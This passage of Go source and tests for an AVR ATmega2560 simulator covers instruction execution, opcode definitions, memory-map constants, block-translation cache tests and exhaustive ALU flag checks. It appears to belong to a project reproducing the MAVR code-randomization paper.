		c.SetReg(in.D, c.logicFlags(c.Reg(in.D)|byte(in.K)))
	case OpEOR:
		c.SetReg(in.D, c.logicFlags(c.Reg(in.D)^c.Reg(in.R)))
	case OpMOV:
		c.SetReg(in.D, c.Reg(in.R))
	case OpLDI:
		c.SetReg(in.D, byte(in.K))

	case OpCOM:
		v := ^c.Reg(in.D)
		c.logicFlags(v)
		c.SetFlag(FlagC, true)
		c.SetReg(in.D, v)
	case OpNEG:
		c.SetReg(in.D, c.subFlags(0, c.Reg(in.D), false, false))
	case OpSWAP:
		v := c.Reg(in.D)
		c.SetReg(in.D, v<<4|v>>4)
	case OpINC:
		v := c.Reg(in.D) + 1
		c.SetFlag(FlagV, v == 0x80)
		c.nzs(v)
		c.SetReg(in.D, v)
	case OpDEC:
		v := c.Reg(in.D) - 1
		c.SetFlag(FlagV, v == 0x7F)
		c.nzs(v)
		c.SetReg(in.D, v)
	case OpASR:
		v := c.Reg(in.D)
		res := v>>1 | v&0x80
		c.shiftFlags(res, v&1 != 0)
		c.SetReg(in.D, res)
	case OpLSR:
		v := c.Reg(in.D)
		res := v >> 1
		c.shiftFlags(res, v&1 != 0)
		c.SetReg(in.D, res)
	case OpROR:
		v := c.Reg(in.D)
		res := v >> 1
		if c.Flag(FlagC) {
			res |= 0x80
		}
		c.shiftFlags(res, v&1 != 0)
		c.SetReg(in.D, res)

	case OpMUL:
		r := uint16(c.Reg(in.D)) * uint16(c.Reg(in.R))
		c.SetRegPair(0, r)
		c.SetFlag(FlagC, r&0x8000 != 0)
		c.SetFlag(FlagZ, r == 0)
	case OpMULS:
		r := int16(int8(c.Reg(in.D))) * int16(int8(c.Reg(in.R)))
		c.SetRegPair(0, uint16(r))
		c.SetFlag(FlagC, uint16(r)&0x8000 != 0)
		c.SetFlag(FlagZ, r == 0)
	case OpMULSU, OpFMUL:
		r := int16(int8(c.Reg(in.D))) * int16(c.Reg(in.R))
		if in.Op == OpFMUL {
			r <<= 1
		}
		c.SetRegPair(0, uint16(r))
		c.SetFlag(FlagC, uint16(r)&0x8000 != 0)
		c.SetFlag(FlagZ, r == 0)

	case OpADIW:
		v := c.RegPair(in.D)
		res := v + uint16(in.K)
		c.SetRegPair(in.D, res)
		c.SetFlag(FlagC, res < v)
		c.SetFlag(FlagZ, res == 0)
		c.SetFlag(FlagN, res&0x8000 != 0)
		c.SetFlag(FlagV, v&0x8000 == 0 && res&0x8000 != 0)
		c.SetFlag(FlagS, c.Flag(FlagN) != c.Flag(FlagV))
	case OpSBIW:
		v := c.RegPair(in.D)
		res := v - uint16(in.K)
		c.SetRegPair(in.D, res)
		c.SetFlag(FlagC, res > v)
		c.SetFlag(FlagZ, res == 0)
		c.SetFlag(FlagN, res&0x8000 != 0)
		c.SetFlag(FlagV, v&0x8000 != 0 && res&0x8000 == 0)
		c.SetFlag(FlagS, c.Flag(FlagN) != c.Flag(FlagV))

	case OpBSET:
		if in.D == FlagI && !c.Flag(FlagI) {
			c.intSuppress = true // sei delay
		}
		c.SetFlag(in.D, true)
	case OpBCLR:
		c.SetFlag(in.D, false)
	case OpBLD:
		v := c.Reg(in.D)
		if c.Flag(FlagT) {
			v |= 1 << in.B
		} else {
			v &^= 1 << in.B
		}
		c.SetReg(in.D, v)
	case OpBST:
		c.SetFlag(FlagT, c.Reg(in.D)&(1<<in.B) != 0)

	case OpIN:
		c.SetReg(in.D, c.ReadData(uint16(IOBase+in.A)))
	case OpOUT:
		c.WriteData(uint16(IOBase+in.A), c.Reg(in.D))
	case OpCBI:
		a := uint16(IOBase + in.A)
		c.WriteData(a, c.ReadData(a)&^(1<<in.B))
	case OpSBI:
		a := uint16(IOBase + in.A)
		c.WriteData(a, c.ReadData(a)|1<<in.B)

	case OpLDS:
		c.SetReg(in.D, c.ReadData(uint16(in.Target)))
	case OpSTS:
		c.WriteData(uint16(in.Target), c.Reg(in.D))

	case OpLDX, OpLDXInc, OpLDXDec, OpSTX, OpSTXInc, OpSTXDec:
		c.execIndirect(in, RegXL)
	case OpLDYInc, OpLDYDec, OpSTYInc, OpSTYDec:
		c.execIndirect(in, RegYL)
	case OpLDZInc, OpLDZDec, OpSTZInc, OpSTZDec:
		c.execIndirect(in, RegZL)
	case OpLDDY:
		c.SetReg(in.D, c.ReadData(c.RegPair(RegYL)+uint16(in.Q)))
	case OpLDDZ:
		c.SetReg(in.D, c.ReadData(c.RegPair(RegZL)+uint16(in.Q)))
	case OpSTDY:
		c.WriteData(c.RegPair(RegYL)+uint16(in.Q), c.Reg(in.D))
	case OpSTDZ:
		c.WriteData(c.RegPair(RegZL)+uint16(in.Q), c.Reg(in.D))

	case OpLPM:
		c.SetReg(0, c.lpmByte(uint32(c.RegPair(RegZL))))
	case OpLPMZ:
		c.SetReg(in.D, c.lpmByte(uint32(c.RegPair(RegZL))))
	case OpLPMZInc:
		z := c.RegPair(RegZL)
		c.SetReg(in.D, c.lpmByte(uint32(z)))
		c.SetRegPair(RegZL, z+1)
	case OpELPM:
		c.SetReg(0, c.lpmByte(c.extZ()))
	case OpELPMZ:
		c.SetReg(in.D, c.lpmByte(c.extZ()))
	case OpELPMZInc:
		z := c.extZ()
		c.SetReg(in.D, c.lpmByte(z))
		z++
		c.SetRegPair(RegZL, uint16(z))
		c.Data[IOBase+IOAddrRAMPZ] = byte(z >> 16)

	case OpPUSH:
		c.PushByte(c.Reg(in.D))
	case OpPOP:
		c.SetReg(in.D, c.PopByte())

	case OpRJMP:
		c.setPC(uint32(int64(next) + int64(in.K)))
		return
	case OpJMP:
		c.setPC(in.Target)
		return
	case OpIJMP:
		c.setPC(uint32(c.RegPair(RegZL)))
		return
	case OpEIJMP:
		c.setPC(c.eindZ())
		return
	case OpRCALL:
		c.PushPC(next)
		c.setPC(uint32(int64(next) + int64(in.K)))
		return
	case OpCALL:
		c.PushPC(next)
		c.setPC(in.Target)
		return
	case OpICALL:
		c.PushPC(next)
		c.setPC(uint32(c.RegPair(RegZL)))
		return
	case OpEICALL:
		c.PushPC(next)
		c.setPC(c.eindZ())
		return
	case OpRET:
		c.setPC(c.PopPC())
		return
	case OpRETI:
		c.SetFlag(FlagI, true)
		c.intSuppress = true // one main-program instruction runs first
		c.setPC(c.PopPC())
		return

	case OpBRBS:
		if c.Flag(in.D) {
			c.Cycles++
			c.setPC(uint32(int64(next) + int64(in.K)))
			return
		}
	case OpBRBC:
		if !c.Flag(in.D) {
			c.Cycles++
			c.setPC(uint32(int64(next) + int64(in.K)))
			return
		}

	case OpCPSE:
		if c.Reg(in.D) == c.Reg(in.R) {
			next = c.skipNext(next)
		}
	case OpSBRC:
		if c.Reg(in.D)&(1<<in.B) == 0 {
			next = c.skipNext(next)
		}
	case OpSBRS:
		if c.Reg(in.D)&(1<<in.B) != 0 {
			next = c.skipNext(next)
		}
	case OpSBIC:
		if c.ReadData(uint16(IOBase+in.A))&(1<<in.B) == 0 {
			next = c.skipNext(next)
		}
	case OpSBIS:
		if c.ReadData(uint16(IOBase+in.A))&(1<<in.B) != 0 {
			next = c.skipNext(next)
		}
	}

	c.setPC(next)
}

func (c *CPU) setPC(pc uint32) {
	if pc >= FlashWords {
		c.PC = pc
		c.raise(FaultPCOutOfRange, 0)
		return
	}
	c.PC = pc
}

func (c *CPU) skipNext(next uint32) uint32 {
	w := wordAt(c.Flash, next)
	n := uint32(InstrWords(w))
	c.Cycles += uint64(n)
	return next + n
}

func (c *CPU) execIndirect(in Instr, lo int) {
	p := c.RegPair(lo)
	switch in.Op {
	case OpLDXDec, OpLDYDec, OpLDZDec, OpSTXDec, OpSTYDec, OpSTZDec:
		p--
		c.SetRegPair(lo, p)
	}
	switch in.Op {
	case OpLDX, OpLDXInc, OpLDXDec, OpLDYInc, OpLDYDec, OpLDZInc, OpLDZDec:
		c.SetReg(in.D, c.ReadData(p))
	default:
		c.WriteData(p, c.Reg(in.D))
	}
	switch in.Op {
	case OpLDXInc, OpLDYInc, OpLDZInc, OpSTXInc, OpSTYInc, OpSTZInc:
		c.SetRegPair(lo, p+1)
	}
}

func (c *CPU) lpmByte(addr uint32) byte {
	if int(addr) >= len(c.Flash) {
		return 0xFF
	}
	return c.Flash[addr]
}

func (c *CPU) extZ() uint32 {
	return uint32(c.Data[IOBase+IOAddrRAMPZ])<<16 | uint32(c.RegPair(RegZL))
}

func (c *CPU) eindZ() uint32 {
	return uint32(c.Data[IOBase+IOAddrEIND]&1)<<16 | uint32(c.RegPair(RegZL))
}

// nzs updates N, Z and S from result v (V must already be set).
func (c *CPU) nzs(v byte) {
	c.SetFlag(FlagN, v&0x80 != 0)
	c.SetFlag(FlagZ, v == 0)
	c.SetFlag(FlagS, c.Flag(FlagN) != c.Flag(FlagV))
}

func (c *CPU) addFlags(a, b byte, carry bool) byte {
	ci := byte(0)
	if carry {
		ci = 1
	}
	r := a + b + ci
	c.SetFlag(FlagH, (a&0xF+b&0xF+ci)&0x10 != 0)
	c.SetFlag(FlagC, int(a)+int(b)+int(ci) > 0xFF)
	c.SetFlag(FlagV, (a^r)&(b^r)&0x80 != 0)
	c.nzs(r)
	return r
}

// subFlags computes a-b-carry and updates flags. If keepZ is set, Z is
// only cleared (never set), which is the cpc/sbc/sbci behaviour that
// makes multi-byte compares work.
func (c *CPU) subFlags(a, b byte, carry, keepZ bool) byte {
	ci := byte(0)
	if carry {
		ci = 1
	}
	r := a - b - ci
	c.SetFlag(FlagH, (b&0xF+ci) > a&0xF)
	c.SetFlag(FlagC, int(b)+int(ci) > int(a))
	c.SetFlag(FlagV, (a^b)&(a^r)&0x80 != 0)
	prevZ := c.Flag(FlagZ)
	c.nzs(r)
	if keepZ && r == 0 {
		c.SetFlag(FlagZ, prevZ)
		c.SetFlag(FlagS, c.Flag(FlagN) != c.Flag(FlagV))
	}
	return r
}

func (c *CPU) logicFlags(v byte) byte {
	c.SetFlag(FlagV, false)
	c.nzs(v)
	return v
}

func (c *CPU) shiftFlags(res byte, carryOut bool) {
	c.SetFlag(FlagC, carryOut)
	c.SetFlag(FlagZ, res == 0)
	c.SetFlag(FlagN, res&0x80 != 0)
	c.SetFlag(FlagV, c.Flag(FlagN) != c.Flag(FlagC))
	c.SetFlag(FlagS, c.Flag(FlagN) != c.Flag(FlagV))
}
