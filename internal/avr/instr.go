package avr

// Op identifies a decoded AVR instruction mnemonic.
type Op int

// Supported opcodes. The set covers the AVRe+ core instructions emitted
// by avr-gcc for the ATmega2560 plus everything the MAVR paper's gadgets
// use (out/pop/ret chains, std Y+q, stack-pointer writes).
const (
	OpInvalid Op = iota
	OpNOP
	OpMOVW
	OpCPC
	OpSBC
	OpADD
	OpCPSE
	OpCP
	OpSUB
	OpADC
	OpAND
	OpEOR
	OpOR
	OpMOV
	OpCPI
	OpSBCI
	OpSUBI
	OpORI
	OpANDI
	OpLDI
	OpLDS // 32-bit form
	OpSTS // 32-bit form
	OpLDX
	OpLDXInc
	OpLDXDec
	OpLDYInc
	OpLDYDec
	OpLDZInc
	OpLDZDec
	OpLDDY // ldd Rd, Y+q (q may be 0: "ld Rd, Y")
	OpLDDZ
	OpSTX
	OpSTXInc
	OpSTXDec
	OpSTYInc
	OpSTYDec
	OpSTZInc
	OpSTZDec
	OpSTDY // std Y+q, Rr
	OpSTDZ
	OpLPM  // lpm r0, Z (implied)
	OpLPMZ // lpm Rd, Z
	OpLPMZInc
	OpELPM  // elpm r0, Z (implied)
	OpELPMZ // elpm Rd, Z
	OpELPMZInc
	OpPUSH
	OpPOP
	OpCOM
	OpNEG
	OpSWAP
	OpINC
	OpASR
	OpLSR
	OpROR
	OpDEC
	OpBSET
	OpBCLR
	OpIJMP
	OpEIJMP
	OpICALL
	OpEICALL
	OpRET
	OpRETI
	OpSLEEP
	OpBREAK
	OpWDR
	OpSPM
	OpJMP  // 32-bit
	OpCALL // 32-bit
	OpADIW
	OpSBIW
	OpCBI
	OpSBIC
	OpSBI
	OpSBIS
	OpMUL
	OpMULS
	OpMULSU
	OpFMUL
	OpIN
	OpOUT
	OpRJMP
	OpRCALL
	OpBRBS
	OpBRBC
	OpBLD
	OpBST
	OpSBRC
	OpSBRS
)

var opNames = map[Op]string{
	OpInvalid: "(invalid)", OpNOP: "nop", OpMOVW: "movw", OpCPC: "cpc",
	OpSBC: "sbc", OpADD: "add", OpCPSE: "cpse", OpCP: "cp", OpSUB: "sub",
	OpADC: "adc", OpAND: "and", OpEOR: "eor", OpOR: "or", OpMOV: "mov",
	OpCPI: "cpi", OpSBCI: "sbci", OpSUBI: "subi", OpORI: "ori",
	OpANDI: "andi", OpLDI: "ldi", OpLDS: "lds", OpSTS: "sts",
	OpLDX: "ld", OpLDXInc: "ld", OpLDXDec: "ld", OpLDYInc: "ld",
	OpLDYDec: "ld", OpLDZInc: "ld", OpLDZDec: "ld", OpLDDY: "ldd",
	OpLDDZ: "ldd", OpSTX: "st", OpSTXInc: "st", OpSTXDec: "st",
	OpSTYInc: "st", OpSTYDec: "st", OpSTZInc: "st", OpSTZDec: "st",
	OpSTDY: "std", OpSTDZ: "std", OpLPM: "lpm", OpLPMZ: "lpm",
	OpLPMZInc: "lpm", OpELPM: "elpm", OpELPMZ: "elpm", OpELPMZInc: "elpm",
	OpPUSH: "push", OpPOP: "pop", OpCOM: "com", OpNEG: "neg",
	OpSWAP: "swap", OpINC: "inc", OpASR: "asr", OpLSR: "lsr",
	OpROR: "ror", OpDEC: "dec", OpBSET: "bset", OpBCLR: "bclr",
	OpIJMP: "ijmp", OpEIJMP: "eijmp", OpICALL: "icall", OpEICALL: "eicall",
	OpRET: "ret", OpRETI: "reti", OpSLEEP: "sleep", OpBREAK: "break",
	OpWDR: "wdr", OpSPM: "spm", OpJMP: "jmp", OpCALL: "call",
	OpADIW: "adiw", OpSBIW: "sbiw", OpCBI: "cbi", OpSBIC: "sbic",
	OpSBI: "sbi", OpSBIS: "sbis", OpMUL: "mul", OpMULS: "muls",
	OpMULSU: "mulsu", OpFMUL: "fmul", OpIN: "in", OpOUT: "out",
	OpRJMP: "rjmp", OpRCALL: "rcall", OpBRBS: "brbs", OpBRBC: "brbc",
	OpBLD: "bld", OpBST: "bst", OpSBRC: "sbrc", OpSBRS: "sbrs",
}

// String returns the instruction mnemonic.
func (o Op) String() string {
	if s, ok := opNames[o]; ok {
		return s
	}
	return "(unknown)"
}

// Instr is a decoded AVR instruction.
type Instr struct {
	Op Op
	// D is the destination register index (or the sole register operand,
	// or the status-flag index for bset/bclr/brbs/brbc).
	D int
	// R is the source register index.
	R int
	// K is an immediate constant: 8-bit for ldi/cpi/..., 6-bit for
	// adiw/sbiw, or a signed word displacement for rjmp/rcall/brbs/brbc.
	K int
	// A is an I/O-space address for in/out/cbi/sbi/sbic/sbis.
	A int
	// Q is the displacement for ldd/std.
	Q int
	// B is the bit index for bld/bst/sbrc/sbrs/cbi/sbi/sbic/sbis.
	B int
	// Target is the absolute word address for jmp/call and the 16-bit
	// data-space address for lds/sts.
	Target uint32
	// Words is the instruction length in 16-bit words (1 or 2).
	Words int
}

// Size returns the instruction length in bytes.
func (i Instr) Size() uint32 { return uint32(i.Words) * 2 }

// IsCallOrJump reports whether the instruction transfers control to an
// encoded (absolute or relative) flash target that the MAVR patcher must
// rewrite after function blocks move. Indirect transfers (ijmp/icall) go
// through function pointers, which are patched in the data section.
func (i Instr) IsCallOrJump() bool {
	switch i.Op {
	case OpJMP, OpCALL, OpRJMP, OpRCALL:
		return true
	}
	return false
}
