package avr_test

import (
	"bytes"
	"fmt"
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
)

// hotLoopHeader is a prologue that calls sub enough times to push its
// entry PC past the block engine's heat threshold, so by the time the
// interesting part of each test runs, sub executes as a translated
// block rather than through the interpreter.
const hotLoopHeader = `
	ldi r24, 8
loop:
	call sub
	dec r24
	brne loop
`

// An SPM self-rewrite of an instruction inside a hot, cached block
// must invalidate the translation: the second call has to execute the
// rewritten code. This is the decode-cache SPM test (cache_test.go)
// replayed against the block layer — MAVR's bootloader reprogramming
// path depends on it.
func TestBlockSPMRewriteInvalidatesTranslation(t *testing.T) {
	img, err := asm.Assemble(hotLoopHeader + `
	; fill buffer word 0 with "ldi r20, 2" (bytes 42 E0)
	ldi r16, 0x42
	mov r0, r16
	ldi r16, 0xE0
	mov r1, r16
	ldi r30, 0x00   ; Z = byte 0x0200 (word 0x100)
	ldi r31, 0x02
	ldi r17, 0x01   ; SPMEN: buffer fill
	sts 0x57, r17
	spm

	; fill buffer word 1 with "ret" (bytes 08 95)
	ldi r16, 0x08
	mov r0, r16
	ldi r16, 0x95
	mov r1, r16
	ldi r30, 0x02
	sts 0x57, r17
	spm

	; erase the page, then commit the buffer
	ldi r30, 0x00
	ldi r17, 0x03   ; SPMEN|PGERS
	sts 0x57, r17
	spm
	ldi r17, 0x05   ; SPMEN|PGWRT
	sts 0x57, r17
	spm

	call sub        ; must run the rewritten code
	sleep

.org 0x100
sub:
	ldi r20, 1
	ret
	`)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	c := avr.New()
	c.ForceInterpreter = false // independent of the env escape hatch
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	if _, fault := c.Run(100_000); fault != nil {
		t.Fatalf("fault: %v", fault)
	}
	if !c.Sleeping {
		t.Fatal("program did not finish")
	}
	if got := c.Reg(20); got != 2 {
		t.Errorf("r20 = %d after SPM rewrite, want 2 (stale translation?)", got)
	}
	st := c.TranslationStats()
	if st.Execs == 0 || st.Translated == 0 {
		t.Errorf("block engine never engaged: %+v", st)
	}
	if st.Invalidated == 0 {
		t.Errorf("SPM rewrite did not invalidate any translation: %+v", st)
	}
}

// A partial InvalidateFlash whose byte range spans an SPM page
// boundary must invalidate a hot block that also spans it. The
// subroutine straddles the page-0/page-1 edge (byte 0x100); both of
// its ldi immediates — one on each side of the edge — are patched in
// place with a single invalidation covering the straddling range.
func TestBlockPartialInvalidateSpansBoundary(t *testing.T) {
	img, err := asm.Assemble(hotLoopHeader + `
	call sub
	sleep

.org 0x7F
sub:
	ldi r21, 1      ; word 0x7F: bytes 0xFE-0xFF, last word of page 0
	ldi r22, 1      ; word 0x80: bytes 0x100-0x101, first word of page 1
	ret
	`)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	c := avr.New()
	c.ForceInterpreter = false
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	// Pin the layout the test depends on: "ldi r21,1" encodes as 0xE051
	// (low byte 0x51 at 0xFE), "ldi r22,1" as 0xE061 (low byte 0x61 at
	// 0x100).
	if c.Flash[0xFE] != 0x51 || c.Flash[0x100] != 0x61 {
		t.Fatalf("unexpected layout: % X", c.Flash[0xFE:0x104])
	}
	if _, fault := c.Run(100_000); fault != nil {
		t.Fatalf("fault: %v", fault)
	}
	if !c.Sleeping || c.Reg(21) != 1 || c.Reg(22) != 1 {
		t.Fatalf("first run: sleeping=%v r21=%d r22=%d", c.Sleeping, c.Reg(21), c.Reg(22))
	}
	before := c.TranslationStats()
	if before.Execs == 0 {
		t.Fatalf("block engine never engaged: %+v", before)
	}

	// Patch both ldi immediates to 9 (low nibble of the low byte) and
	// invalidate with one range crossing the page boundary at 0x100.
	c.Flash[0xFE] = 0x59
	c.Flash[0x100] = 0x69
	c.InvalidateFlash(0xFE, 0x102-0xFE)
	c.Reset()
	if _, fault := c.Run(100_000); fault != nil {
		t.Fatalf("fault after patch: %v", fault)
	}
	if c.Reg(21) != 9 || c.Reg(22) != 9 {
		t.Errorf("after partial invalidate: r21=%d r22=%d, want 9/9 (stale translation?)", c.Reg(21), c.Reg(22))
	}
	if after := c.TranslationStats(); after.Invalidated == before.Invalidated {
		t.Errorf("partial InvalidateFlash did not invalidate the hot block: %+v", after)
	}
}

// An interrupt raised by an I/O write hook in the middle of a
// translated block must bail to the interpreter at the exact
// instruction boundary the interpreter would dispatch at. Run the same
// program on a ForceInterpreter reference and the block engine in
// lockstep slices and require identical state throughout.
func TestBlockInterruptMidBlockMatchesInterpreter(t *testing.T) {
	img, err := asm.Assemble(`
	jmp start

.org 0x2E           ; vector 23 (TIMER0 OVF) lives at word 46
	jmp isr

.org 0x60
start:
	sei
loop:
	out 0x15, r20   ; hooked: raises TIMER0 OVF mid-block
	inc r20
	inc r21
	inc r22
	inc r23
	rjmp loop

.org 0x90
isr:
	inc r25
	reti
	`)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	mk := func(force bool) *avr.CPU {
		c := avr.New()
		c.ForceInterpreter = force
		if err := c.LoadFlash(img); err != nil {
			t.Fatal(err)
		}
		c.HookWrite(0x20+0x15, func(byte) { c.RaiseInterrupt(avr.VectorTimer0Ovf) })
		return c
	}
	ref := mk(true)
	blk := mk(false)
	state := func(c *avr.CPU) string {
		return fmt.Sprintf("pc=%d cyc=%d sleep=%v pend=%v fault=%+v",
			c.PC, c.Cycles, c.Sleeping, c.PendingInterrupts(), c.Fault())
	}
	for s, budget := range []uint64{7, 64, 333, 1000, 5000, 5000, 5000} {
		ref.Run(budget)
		blk.Run(budget)
		if rs, bs := state(ref), state(blk); rs != bs {
			t.Fatalf("slice %d: interpreter %s != block engine %s", s, rs, bs)
		}
		if !bytes.Equal(ref.Data, blk.Data) {
			t.Fatalf("slice %d: data spaces diverged", s)
		}
	}
	if ref.Reg(25) == 0 {
		t.Fatal("interrupt handler never ran; the test exercised nothing")
	}
	st := blk.TranslationStats()
	if st.Execs == 0 {
		t.Errorf("block engine never engaged: %+v", st)
	}
	if st.Bails == 0 {
		t.Errorf("no mid-block interrupt bail recorded: %+v", st)
	}
}

// RunUntil on a sleeping core must fast-forward the remaining budget
// exactly like Run, instead of returning after a single one-cycle
// sleep step (the pre-fix behavior made bootloader handover timeouts
// return ~1M cycles early).
func TestRunUntilSleepConsumesBudget(t *testing.T) {
	img, err := asm.Assemble(`
	nop
	sleep
	`)
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	done, fault := c.RunUntil(1000, func(*avr.CPU) bool { return false })
	if fault != nil {
		t.Fatal(fault)
	}
	if done {
		t.Error("pred never true but RunUntil reported done")
	}
	if c.Cycles != 1000 {
		t.Errorf("Cycles = %d after sleeping RunUntil, want the full 1000 budget", c.Cycles)
	}
	// A cycle-horizon predicate is satisfied by the fast-forward itself.
	done, fault = c.RunUntil(500, func(c *avr.CPU) bool { return c.Cycles >= 1400 })
	if fault != nil {
		t.Fatal(fault)
	}
	if !done || c.Cycles != 1500 {
		t.Errorf("done=%v Cycles=%d, want true, 1500", done, c.Cycles)
	}
}

// The interpreter escape hatches must actually disable the engine:
// ForceInterpreter CPUs and CPUs with an OnStep tracer never execute
// translated blocks.
func TestBlockEngineDisabledByEscapeHatches(t *testing.T) {
	img, err := asm.Assemble(hotLoopHeader + `
	call sub
	sleep

.org 0x100
sub:
	ldi r20, 1
	ret
	`)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name  string
		setup func(*avr.CPU)
	}{
		{"ForceInterpreter", func(c *avr.CPU) { c.ForceInterpreter = true }},
		{"OnStep", func(c *avr.CPU) {
			c.ForceInterpreter = false
			c.OnStep = func(uint32, avr.Instr) {}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := avr.New()
			tc.setup(c)
			if err := c.LoadFlash(img); err != nil {
				t.Fatal(err)
			}
			if _, fault := c.Run(100_000); fault != nil {
				t.Fatal(fault)
			}
			if !c.Sleeping || c.Reg(20) != 1 {
				t.Fatalf("program misbehaved: sleeping=%v r20=%d", c.Sleeping, c.Reg(20))
			}
			if st := c.TranslationStats(); st.Execs != 0 || st.Translated != 0 {
				t.Errorf("engine engaged despite escape hatch: %+v", st)
			}
		})
	}
}
