package avr

import "fmt"

// Memory geometry of the ATmega2560 (see the paper's Fig. 1).
const (
	// FlashSize is the program memory size in bytes (256 KB).
	FlashSize = 256 * 1024
	// FlashWords is the program memory size in 16-bit words. The program
	// counter is a word address in [0, FlashWords).
	FlashWords = FlashSize / 2

	// RegFileBase is the data-space address of register r0. Registers
	// r0..r31 are memory mapped at 0x00..0x1F.
	RegFileBase = 0x0000
	// IOBase is the data-space address of I/O register 0 (data address =
	// I/O address + 0x20 for in/out instructions).
	IOBase = 0x0020
	// ExtIOBase is the first extended I/O address (reachable only via
	// lds/sts and ld/st).
	ExtIOBase = 0x0060
	// SRAMBase is the first address of internal SRAM.
	SRAMBase = 0x0200
	// SRAMSize is the internal SRAM size in bytes (8 KB).
	SRAMSize = 8 * 1024
	// DataSpaceSize is the size of the linear data address space.
	DataSpaceSize = SRAMBase + SRAMSize // 0x2200

	// EEPROMSize is the EEPROM size in bytes (4 KB).
	EEPROMSize = 4 * 1024
)

// I/O-space addresses (add IOBase for the data-space address).
const (
	IOAddrRAMPZ = 0x3B // extended Z pointer for ELPM
	IOAddrEIND  = 0x3C // extended indirect register for EICALL/EIJMP
	IOAddrSPL   = 0x3D // stack pointer low byte
	IOAddrSPH   = 0x3E // stack pointer high byte
	IOAddrSREG  = 0x3F // status register
)

// Data-space addresses of the stack pointer and status register.
const (
	AddrSPL  = IOBase + IOAddrSPL  // 0x5D
	AddrSPH  = IOBase + IOAddrSPH  // 0x5E
	AddrSREG = IOBase + IOAddrSREG // 0x5F
)

// SREG flag bit positions.
const (
	FlagC = iota // carry
	FlagZ        // zero
	FlagN        // negative
	FlagV        // two's complement overflow
	FlagS        // sign (N xor V)
	FlagH        // half carry
	FlagT        // bit copy storage
	FlagI        // global interrupt enable
)

// X, Y and Z pointer register pairs.
const (
	RegXL = 26
	RegXH = 27
	RegYL = 28
	RegYH = 29
	RegZL = 30
	RegZH = 31
)

// MemoryRegion describes one region of the ATmega2560 address space. The
// set of regions is exported so tools (mavr-bench -fig 1) can render the
// paper's memory-map figure from the same constants the simulator uses.
type MemoryRegion struct {
	Name  string
	Space string // "program" or "data" or "eeprom"
	Start uint32
	Size  uint32
}

// MemoryMap returns the ATmega2560 memory regions in ascending address
// order per space.
func MemoryMap() []MemoryRegion {
	return []MemoryRegion{
		{Name: "flash (program, execute-only)", Space: "program", Start: 0, Size: FlashSize},
		{Name: "register file r0-r31", Space: "data", Start: RegFileBase, Size: 32},
		{Name: "I/O registers", Space: "data", Start: IOBase, Size: ExtIOBase - IOBase},
		{Name: "extended I/O", Space: "data", Start: ExtIOBase, Size: SRAMBase - ExtIOBase},
		{Name: "internal SRAM", Space: "data", Start: SRAMBase, Size: SRAMSize},
		{Name: "EEPROM (persistent config)", Space: "eeprom", Start: 0, Size: EEPROMSize},
	}
}

// FormatMemoryMap renders the memory map as a small text diagram
// reproducing the content of the paper's Fig. 1.
func FormatMemoryMap() string {
	s := "ATmega2560 memories (Harvard architecture; data space is not executable)\n"
	for _, r := range MemoryMap() {
		s += fmt.Sprintf("  %-7s 0x%05X-0x%05X  %s\n", r.Space, r.Start, r.Start+r.Size-1, r.Name)
	}
	return s
}
