package avr_test

import (
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
)

// Exhaustive semantic tests: every 8-bit ALU operation is executed on
// the simulator for all 65536 input pairs and compared against an
// independent bit-level reference model of the AVR datasheet flag
// equations.

// refFlags computes the SREG flags for result r of op(a, b) using the
// datasheet bit equations (written independently of exec.go).
type refFlags struct{ c, z, n, v, s, h bool }

func refAdd(a, b byte, carryIn bool) (byte, refFlags) {
	ci := byte(0)
	if carryIn {
		ci = 1
	}
	r := a + b + ci
	var f refFlags
	a7, b7, r7 := a>>7&1, b>>7&1, r>>7&1
	a3, b3, r3 := a>>3&1, b>>3&1, r>>3&1
	f.c = a7&b7|b7&^r7&1|^r7&a7&1 == 1
	f.h = a3&b3|b3&^r3&1|^r3&a3&1 == 1
	f.v = a7&b7&^r7&1|^a7&^b7&r7&1 == 1
	f.n = r7 == 1
	f.z = r == 0
	f.s = f.n != f.v
	return r, f
}

func refSub(a, b byte, carryIn bool) (byte, refFlags) {
	ci := byte(0)
	if carryIn {
		ci = 1
	}
	r := a - b - ci
	var f refFlags
	a7, b7, r7 := a>>7&1, b>>7&1, r>>7&1
	a3, b3, r3 := a>>3&1, b>>3&1, r>>3&1
	f.c = ^a7&b7|b7&r7|r7&^a7&1 == 1
	f.h = ^a3&b3|b3&r3|r3&^a3&1 == 1
	f.v = a7&^b7&^r7&1|^a7&b7&r7&1 == 1
	f.n = r7 == 1
	f.z = r == 0
	f.s = f.n != f.v
	return r, f
}

// aluRig executes a single fixed instruction repeatedly with varying
// inputs, reusing one CPU (a fresh CPU per case would dominate the
// exhaustive sweeps).
type aluRig struct {
	c *avr.CPU
}

func newALURig(t *testing.T, word uint16) *aluRig {
	t.Helper()
	c := avr.New()
	img := []byte{byte(word), byte(word >> 8), 0x00, 0x00 /* nop */}
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	return &aluRig{c: c}
}

func (r *aluRig) run(t *testing.T, a, b byte, carryIn bool) (byte, refFlags) {
	t.Helper()
	c := r.c
	c.PC = 0
	c.SetSREG(0)
	c.SetReg(16, a)
	c.SetReg(17, b)
	c.SetFlag(avr.FlagC, carryIn)
	if err := c.Step(); err != nil {
		t.Fatal(err)
	}
	var f refFlags
	f.c = c.Flag(avr.FlagC)
	f.z = c.Flag(avr.FlagZ)
	f.n = c.Flag(avr.FlagN)
	f.v = c.Flag(avr.FlagV)
	f.s = c.Flag(avr.FlagS)
	f.h = c.Flag(avr.FlagH)
	return c.Reg(16), f
}

// execALU runs a single two-register instruction with the given inputs
// and initial carry, returning the result register and flags.
func execALU(t *testing.T, word uint16, a, b byte, carryIn bool) (byte, refFlags, *avr.CPU) {
	t.Helper()
	rig := newALURig(t, word)
	got, f := rig.run(t, a, b, carryIn)
	return got, f, rig.c
}

